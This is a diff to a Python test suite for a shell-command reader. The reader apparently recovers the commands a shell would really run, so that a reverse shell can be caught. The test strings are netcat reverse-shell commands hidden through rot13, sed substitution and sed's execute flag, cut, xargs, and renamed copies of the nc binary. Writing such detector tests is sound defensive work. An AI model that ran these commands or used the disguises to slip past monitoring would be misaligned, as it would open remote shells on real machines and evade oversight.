@@ -312,14 +312,34 @@ def test_what_a_shell_runs_of_other_programs_output():
     "echo 'ap -r /ova/fu 10.0.0.1 4444' | tr 'a-z' 'n-za-m' | sh",
     "echo 'nc -e /bin/sh 10.0.0.1 4444' | sed 's/x/y/' | sh",
     "echo 'ZZ -e /bin/sh 10.0.0.1 4444' | perl -pe 's/ZZ/nc/' | sh",
-    # filters whose output is not computed pass on what they were given
     "echo 'nc -e /bin/sh 10.0.0.1 4444' | grep nc | sh",
     "echo 'nc -e /bin/sh 10.0.0.1 4444' | awk '{print}' | sh",
-    "echo 'nc -e /bin/sh 10.0.0.1 4444' | sed '1s/x/y/' | head -n 1 | bash",
+    "echo 'mc -e /bin/sh 10.0.0.1 4444' | sed '1s/^m/n/' | head -n 1 | bash",
+    "echo 'xnc -e /bin/sh 10.0.0.1 4444' | cut -c2- | sh",
 ])
 def test_text_rewritten_by_a_filter_on_its_way_to_a_shell_is_read(text):
     nc = find(text, "nc")
     assert nc.args == ["-e", "/bin/sh", "10.0.0.1", "4444"]
+
+
+@pytest.mark.parametrize("text", [
+    "echo 'nc -e /bin/sh 10.0.0.1 4444' | grep -v nc > clean.sh",
+    "echo 'nc -e /bin/sh 10.0.0.1 4444' | sed '/nc/d' > clean.sh",
+    "echo 'nc -e /bin/sh 10.0.0.1 4444' | sed '1s/^/# /' > commented.sh",
+    "echo 'nc -e /bin/sh 10.0.0.1 4444' | grep -v nc | sh",
+])
+def test_a_filter_that_removes_the_command_leaves_nothing_to_run(text):
+    assert "nc" not in names(text)
+
+
+@pytest.mark.parametrize("text", [
+    "echo 'mc -e /bin/sh 10.0.0.1 4444' | sed 's/^m/n/e'",
+    "echo x | sed 'e nc -e /bin/sh 10.0.0.1 4444'",
+    "sed -n '1e nc -e /bin/sh 10.0.0.1 4444' /etc/hostname",
+    "echo 'nc -e /bin/sh 10.0.0.1 4444' | sed -n e",
+])
+def test_commands_sed_runs_itself_are_read(text):
+    assert find(text, "nc").args == ["-e", "/bin/sh", "10.0.0.1", "4444"]
 
 
 def test_a_filter_whose_output_feeds_nothing_runs_nothing_more():
@@ -385,3 +405,18 @@ def test_an_ssh_config_the_session_wrote_is_read_where_it_is_used():
     cmds = reader.read("ssh -F /tmp/cfg -fN u@203.0.113.4", session)
     assert any("-oremoteforward=2222 localhost:22" in c.args for c in cmds if c.name == "ssh")
     assert names("ssh -F /tmp/cfg -fN u@203.0.113.4", Session()) == ["ssh"]  # a config nobody wrote: as is
+
+
+@pytest.mark.parametrize("text", [
+    "install -m 755 /usr/bin/nc /tmp/x; /tmp/x -e /bin/sh 10.0.0.1 4444",
+    "cp -S .bak /usr/bin/nc /tmp/x; /tmp/x -e /bin/sh 10.0.0.1 4444",
+    "cp `which nc` /tmp/x; /tmp/x -e /bin/sh 10.0.0.1 4444",
+    "cp $(type -P nc) /tmp/x; /tmp/x -e /bin/sh 10.0.0.1 4444",
+    "cp /usr/bin/nc ~/x; ~/x -e /bin/sh 10.0.0.1 4444",
+    "cp -t /tmp /usr/bin/nc; /tmp/nc -e /bin/sh 10.0.0.1 4444",
+    "printf 'ls\\0nc -e /bin/sh 10.0.0.1 4444\\0' | xargs -0 -n1 sh -c",
+    "printf 'nc -e /bin/sh 10.0.0.1 4444' | xargs -0r sh -c",
+    "printf 'nc -e /bin/sh 10.0.0.1 4444' | xargs -r0 sh -c",
+])
+def test_copies_with_options_and_xargs_option_forms(text):
+    assert ["-e", "/bin/sh", "10.0.0.1", "4444"] in [c.args for c in reader.read(text) if c.name == "nc"]
